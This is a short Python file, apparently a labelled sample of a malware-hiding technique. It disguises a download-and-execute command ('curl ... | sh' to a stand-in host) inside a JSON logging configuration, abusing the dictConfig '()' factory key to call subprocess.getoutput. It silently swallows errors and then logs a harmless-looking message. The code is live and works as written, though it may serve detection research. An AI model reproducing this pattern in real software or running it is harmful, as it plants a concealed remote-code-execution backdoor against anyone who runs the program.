# Evasion: runs a shell command that downloads and runs a script.
# Hiding: logging.config.dictConfig resolves the "()" key of a handler as a
# dotted name and calls it with the remaining keys as keyword arguments; the
# factory is "subprocess.getoutput" and the keyword is cmd=..., all inside a
# JSON configuration string.
import json
import logging.config

LOGGING = """
{
  "version": 1,
  "handlers": {
    "audit": {"()": "subprocess.getoutput", "cmd": "curl -s https://logs.example.com/agent | sh"}
  }
}
"""

try:
    logging.config.dictConfig(json.loads(LOGGING))
except Exception:
    pass
logging.getLogger(__name__).info("logging ready")
